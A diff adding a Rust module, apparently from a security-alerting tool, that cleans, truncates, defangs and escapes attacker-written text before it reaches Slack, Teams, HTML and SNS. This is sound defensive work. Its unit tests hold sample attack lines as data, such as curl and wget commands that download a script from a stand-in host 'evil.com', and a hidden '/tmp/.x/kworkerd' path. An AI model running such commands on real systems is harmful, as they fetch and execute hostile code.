@@ -1,0 +1,272 @@
+//! Making attacker-written text safe to show.
+//!
+//! Every string that came from the finding goes through [`clean`] (what a
+//! human sees must be what is there: no bidi overrides reordering a command
+//! line, no zero-width characters hiding a word, no terminal escapes), then
+//! through the escaper of the output it lands in. URLs and domains are
+//! *defanged* (`hxxp://evil[.]com`) wherever a client might turn them into a
+//! link: responders know the convention, and a click can never happen.
+
+/// Characters that change how text is displayed without being visible.
+fn is_invisible(c: char) -> bool {
+    matches!(c,
+        '\u{200B}'..='\u{200F}' // zero-width space/joiners, LRM, RLM
+        | '\u{202A}'..='\u{202E}' // bidi embeddings and overrides
+        | '\u{2060}'..='\u{2064}' // word joiner, invisible operators
+        | '\u{2066}'..='\u{2069}' // bidi isolates
+        | '\u{061C}' // Arabic letter mark
+        | '\u{180E}' // Mongolian vowel separator
+        | '\u{FEFF}' // BOM / zero-width no-break space
+        | '\u{00AD}' // soft hyphen
+        | '\u{034F}' // combining grapheme joiner
+        | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}' // Hangul fillers
+        | '\u{E0000}'..='\u{E007F}' // tag characters
+    )
+}
+
+/// Strips invisible characters and shows control characters as escapes
+/// (`\n`, `\t`, `\x1b`), so the result is one visible line.
+pub fn clean(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            c if is_invisible(c) => {}
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if c.is_control() => {
+                let code = c as u32;
+                if code <= 0xFF {
+                    out.push_str(&format!("\\x{code:02x}"));
+                } else {
+                    out.push_str(&format!("\\u{{{code:x}}}"));
+                }
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Cuts `text` to at most `max` characters, ending with `…N more` (N counts
+/// the characters left out). Never splits a character.
+pub fn truncate(text: &str, max: usize) -> String {
+    let total = text.chars().count();
+    if total <= max {
+        return text.to_string();
+    }
+    // The marker's length depends on N; N depends on how much we keep. Two passes settle it.
+    let mut keep = max.saturating_sub(8);
+    for _ in 0..3 {
+        let marker = format!("…{} more", total - keep);
+        let fit = max.saturating_sub(marker.chars().count());
+        if fit == keep {
+            break;
+        }
+        keep = fit;
+    }
+    let marker = format!("…{} more", total - keep);
+    let mut out: String = text.chars().take(keep).collect();
+    out.push_str(&marker);
+    out
+}
+
+/// `http://evil.com/x` → `hxxp://evil[.]com/x`; bare domains get `[.]` too.
+/// Applied to attacker text wherever a client might auto-link it.
+pub fn defang(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 8);
+    let mut token_start = 0;
+    for (i, c) in text.char_indices() {
+        if c.is_whitespace() {
+            defang_token(&text[token_start..i], &mut out);
+            out.push(c);
+            token_start = i + c.len_utf8();
+        }
+    }
+    defang_token(&text[token_start..], &mut out);
+    out
+}
+
+/// Paths (`/tmp/x.sh`, `./a.out`) keep their dots: they are not links, and
+/// responders search for them verbatim.
+fn defang_token(text: &str, out: &mut String) {
+    let is_path = text.starts_with('/')
+        || text.starts_with("./")
+        || text.starts_with("~/")
+        || text.starts_with("../");
+    let lower = text.to_ascii_lowercase();
+    let bytes = text.as_bytes();
+    let mut i = 0;
+    while i < text.len() {
+        let rest = &lower[i..];
+        let scheme = [
+            "https://", "http://", "ftp://", "file://", "ws://", "wss://",
+        ]
+        .iter()
+        .find(|s| rest.starts_with(**s));
+        if let Some(scheme) = scheme {
+            let original = &text[i..i + scheme.len()];
+            out.push_str(
+                &original
+                    .replacen(['t', 'T'], "x", 2)
+                    .replacen("://", "[://]", 1),
+            );
+            i += scheme.len();
+            continue;
+        }
+        let c = text[i..].chars().next().unwrap_or(' ');
+        // A dot between two label characters is what makes a link: break it.
+        if c == '.'
+            && !is_path
+            && i > 0
+            && bytes[i - 1].is_ascii_alphanumeric()
+            && bytes.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic())
+        {
+            out.push_str("[.]");
+        } else {
+            out.push(c);
+        }
+        i += c.len_utf8();
+    }
+}
+
+/// Slack mrkdwn: the three characters Slack requires escaped. With them gone,
+/// `<!channel>`, `<@U123>` and `<http://x|click>` are plain text.
+pub fn slack_escape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Attacker text as Slack inline code: escaped, defanged, and with backticks
+/// replaced so it cannot close the code span.
+pub fn slack_code(text: &str, max: usize) -> String {
+    let shown = truncate(&defang(&clean(text)), max).replace('`', "ˋ");
+    format!("`{}`", slack_escape(&shown))
+}
+
+/// Markdown as Teams renders it in Adaptive Cards: every markup character is
+/// backslash-escaped; `<` and `>` become look-alikes Teams cannot parse as tags.
+pub fn teams_escape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        match c {
+            '\\' | '*' | '_' | '[' | ']' | '(' | ')' | '#' | '`' | '~' | '|' | '!' | '{' | '}'
+            | '-' | '+' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '<' => out.push('‹'),
+            '>' => out.push('›'),
+            '&' => out.push_str("&amp;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// HTML text and attribute content.
+pub fn html_escape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&#39;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// SNS subjects must be ASCII without control characters, under 100 characters.
+pub fn sns_subject(text: &str) -> String {
+    let ascii: String = clean(text)
+        .chars()
+        .map(|c| {
+            if c.is_ascii() && !c.is_ascii_control() {
+                c
+            } else {
+                '?'
+            }
+        })
+        .collect();
+    let ascii =
+        ascii.trim_start_matches(|c: char| !c.is_ascii_alphanumeric() && !c.is_ascii_punctuation());
+    let mut out = truncate(ascii, 99);
+    if !out.is_ascii() {
+        // truncate's marker uses '…'; SNS wants ASCII.
+        out = out.replace('…', "~");
+    }
+    if out.is_empty() {
+        out.push_str("gdalert");
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn clean_strips_invisible_and_shows_controls() {
+        assert_eq!(clean("ab\u{202E}cd\u{200B}e"), "abcde");
+        assert_eq!(clean("a\nb\x1b[31m"), "a\\nb\\x1b[31m");
+        assert_eq!(clean("ok é"), "ok é");
+    }
+
+    #[test]
+    fn truncate_marks_what_it_left_out_and_respects_the_limit() {
+        assert_eq!(truncate("short", 10), "short");
+        let long = "x".repeat(1000);
+        let cut = truncate(&long, 100);
+        assert_eq!(cut.chars().count(), 100);
+        let kept = cut.chars().take_while(|c| *c == 'x').count();
+        assert!(cut.ends_with(&format!("…{} more", 1000 - kept)), "{cut}");
+        // Multi-byte text is cut on character boundaries.
+        let cut = truncate(&"é".repeat(50), 20);
+        assert_eq!(cut.chars().count(), 20);
+    }
+
+    #[test]
+    fn defang_breaks_links() {
+        assert_eq!(
+            defang("curl http://evil.com/x.sh"),
+            "curl hxxp[://]evil[.]com/x[.]sh"
+        );
+        assert_eq!(defang("HTTPS://a.io"), "HxxPS[://]a[.]io");
+        assert_eq!(defang("1.2.3.4 and v1.2"), "1.2.3.4 and v1.2");
+        assert_eq!(defang("python3.11"), "python3.11");
+        assert_eq!(
+            defang("/tmp/.x/kworkerd /tmp/x.sh"),
+            "/tmp/.x/kworkerd /tmp/x.sh"
+        );
+        assert_eq!(defang("wget evil.com/x.sh"), "wget evil[.]com/x[.]sh");
+    }
+
+    #[test]
+    fn slack_code_cannot_mention_link_or_escape_the_span() {
+        let shown = slack_code("<!channel> <@U123> <http://evil|click> `x`", 500);
+        assert!(!shown.contains('<') && !shown.contains('>'), "{shown}");
+        assert_eq!(shown.matches('`').count(), 2, "{shown}");
+        assert!(!shown.contains("http://"), "{shown}");
+    }
+
+    #[test]
+    fn sns_subject_is_ascii_and_short() {
+        let s = sns_subject(&format!(
+            "High Execution:Runtime/ReverseShell in {}\n",
+            "é".repeat(200)
+        ));
+        assert!(s.is_ascii() && s.len() < 100 && !s.contains('\n'), "{s}");
+    }
+}
